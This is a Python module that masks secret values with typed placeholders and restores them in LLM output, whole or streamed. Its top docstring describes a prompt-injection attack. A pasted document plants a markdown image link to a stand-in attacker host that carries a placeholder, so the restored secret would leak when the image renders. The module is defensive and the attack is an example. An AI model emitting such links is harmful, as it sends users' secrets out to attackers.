"""Typed placeholders for masked values, and putting the values back (whole text or streamed).

A placeholder is ``[[TYPE_N]]``: TYPE is ``[A-Z][A-Z0-9_]*``, N counts per type from 1 in
order of first appearance, and one (type, value) pair keeps one placeholder for the whole
request. Values are secrets: nothing here logs them or puts them in an exception message.

Restore is a way out for values, so two rules keep untrusted text from steering it:
- a placeholder already written in the request (a pasted document with
  ``![x](https://evil.example/p.png?n=[[PERSON_1]])``) is never issued: numbering skips it,
  so the planted text stays literal in the answer;
- a placeholder inside a URL (the run of non-space text before it holds ``//``, ``www.``
  or a markdown link target ``](``) is never filled, whoever wrote it: a value in a URL
  leaves the company the moment a client renders the image.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterable

__all__ = ["PLACEHOLDER_RE", "PlaceholderMap", "StreamRestorer", "in_url"]

# Any text shaped like a placeholder; only those this map issued are replaced. Because the
# inside can hold no bracket, two matches never overlap, so chunked and whole-text scans agree.
PLACEHOLDER_RE = re.compile(r"\[\[[A-Z][A-Z0-9_]*_[1-9][0-9]*\]\]")
_TYPE_RE = re.compile(r"[A-Z][A-Z0-9_]*")
# How far back restore looks for a URL around a placeholder; a run of non-space text
# longer than this is treated as a URL (never filled), so the bound only errs safe.
URL_CONTEXT_CHARS = 2048


def _run_start(window: str, json_text: bool) -> int:
    """Where the run of non-space text that ends ``window`` starts (-1: no break in it).
    Scans back from the end, so the cost is the run's length, not the window's."""
    i = len(window)
    while i > 0:
        ch = window[i - 1]
        if ch.isspace():
            return i
        if json_text and ch in "nrt" and i > 1 and window[i - 2] == "\\":
            return i
        i -= 1
    return -1


def in_url(before: str, *, json_text: bool = False) -> bool:
    """True if a placeholder right after ``before`` (the raw text preceding it) is in a URL."""
    window = before[-URL_CONTEXT_CHARS:]
    start = _run_start(window, json_text)
    if start < 0:
        if len(before) >= URL_CONTEXT_CHARS:
            return True
        run = window
    else:
        run = window[start:]
    if json_text:
        run = run.replace("\\/", "/")
    lowered = run.lower()
    return "//" in lowered or "www." in lowered or "](" in lowered


def _json_escape(value: str) -> str:
    # The body of a JSON string literal; non-ASCII stays literal, which is still valid JSON.
    return json.dumps(value, ensure_ascii=False)[1:-1]


class PlaceholderMap:
    """The placeholders issued for one request and the values they stand for."""

    __slots__ = ("_by_key", "_counts", "_max_len", "_prefixes", "_reserved", "_values")

    def __init__(self) -> None:
        self._reserved: set[str] = set()
        self._by_key: dict[tuple[str, str], str] = {}
        self._values: dict[str, str] = {}
        self._counts: dict[str, int] = {}
        self._prefixes: frozenset[str] | None = None
        self._max_len = 0

    def reserve(self, texts: Iterable[str]) -> None:
        """Never issue a placeholder that one of ``texts`` (the request) already contains."""
        for text in texts:
            if "[[" in text:
                self._reserved.update(PLACEHOLDER_RE.findall(text))

    def placeholder_for(self, entity_type: str, value: str) -> str:
        """The placeholder for ``value`` of ``entity_type``, issuing a new one on first sight."""
        if not _TYPE_RE.fullmatch(entity_type):
            raise ValueError("entity type must match [A-Z][A-Z0-9_]*")
        key = (entity_type, value)
        existing = self._by_key.get(key)
        if existing is not None:
            return existing
        number = self._counts.get(entity_type, 0) + 1
        placeholder = f"[[{entity_type}_{number}]]"
        while placeholder in self._reserved:  # planted by the request: skip it
            number += 1
            placeholder = f"[[{entity_type}_{number}]]"
        self._counts[entity_type] = number
        self._by_key[key] = placeholder
        self._values[placeholder] = value
        self._prefixes = None
        self._max_len = max(self._max_len, len(placeholder))
        return placeholder

    def value_of(self, placeholder: str) -> str | None:
        """The value behind ``placeholder``, or None if this map never issued it."""
        return self._values.get(placeholder)

    def restore(self, text: str, before: str = "") -> str:
        """``text`` with every issued placeholder replaced by its value, except inside a
        URL; ``before`` is the raw text that preceded ``text`` (streaming)."""
        return self._sub(text, before, json_text=False)

    def restore_json_string_content(self, text: str, before: str = "") -> str:
        """Like :meth:`restore`, for raw JSON text: inserted values are JSON-string-escaped."""
        return self._sub(text, before, json_text=True)

    def _sub(self, text: str, before: str, *, json_text: bool) -> str:
        if not self._values or "[[" not in text:
            return text
        values = self._values

        def fill(match: re.Match[str]) -> str:
            placeholder = match.group(0)
            value = values.get(placeholder)
            if value is None:
                return placeholder
            start = match.start()
            lead = before[-URL_CONTEXT_CHARS:] + text[max(0, start - URL_CONTEXT_CHARS) : start]
            if in_url(lead[-URL_CONTEXT_CHARS:], json_text=json_text):
                return placeholder
            return _json_escape(value) if json_text else value

        return PLACEHOLDER_RE.sub(fill, text)

    @property
    def max_placeholder_len(self) -> int:
        """Length of the longest placeholder issued (0 when none)."""
        return self._max_len

    def is_prefix(self, text: str) -> bool:
        """True if ``text`` is a proper, non-empty prefix of some issued placeholder."""
        if self._prefixes is None:
            self._prefixes = frozenset(p[:i] for p in self._values for i in range(1, len(p)))
        return text in self._prefixes

    def __len__(self) -> int:
        return len(self._values)

    def __bool__(self) -> bool:
        return bool(self._values)

    def __repr__(self) -> str:
        # Counts only: a repr ends up in logs and tracebacks.
        return f"PlaceholderMap({len(self._values)} placeholders)"


class StreamRestorer:
    """Restores one text stream delta by delta, holding back only a possible placeholder start.

    The held tail is always a proper prefix of a placeholder the map issued, so it is
    shorter than the longest one; concatenating every ``feed`` and the final ``flush``
    equals restoring the whole text at once.
    """

    __slots__ = ("_before", "_held", "_json_escape", "_mapping")

    def __init__(self, mapping: PlaceholderMap, *, json_escape: bool = False) -> None:
        self._mapping = mapping
        self._json_escape = json_escape
        self._held = ""
        # The raw text released so far (its tail): the URL check looks back across deltas.
        self._before = ""

    @property
    def held(self) -> str:
        """Text received but not yet released (a possible placeholder start)."""
        return self._held

    def feed(self, delta: str) -> str:
        """Take the next delta; return the restored text that can be emitted now."""
        text = self._held + delta
        cut = self._hold_from(text)
        self._held = text[cut:]
        return self._restore(text[:cut])

    def flush(self) -> str:
        """End of stream: release whatever is held (it was not a placeholder after all)."""
        text, self._held = self._held, ""
        return self._restore(text)

    def _restore(self, text: str) -> str:
        before = self._before
        self._before = (before + text)[-URL_CONTEXT_CHARS:]
        if self._json_escape:
            return self._mapping.restore_json_string_content(text, before)
        return self._mapping.restore(text, before)

    def _hold_from(self, text: str) -> int:
        # The earliest start whose suffix could still grow into an issued placeholder; any
        # placeholder that began earlier would make an earlier start qualify, so none straddles.
        longest = self._mapping.max_placeholder_len
        first = max(0, len(text) - longest + 1)
        start = text.find("[", first)
        while start != -1:
            if self._mapping.is_prefix(text[start:]):
                return start
            start = text.find("[", start + 1)
        return len(text)
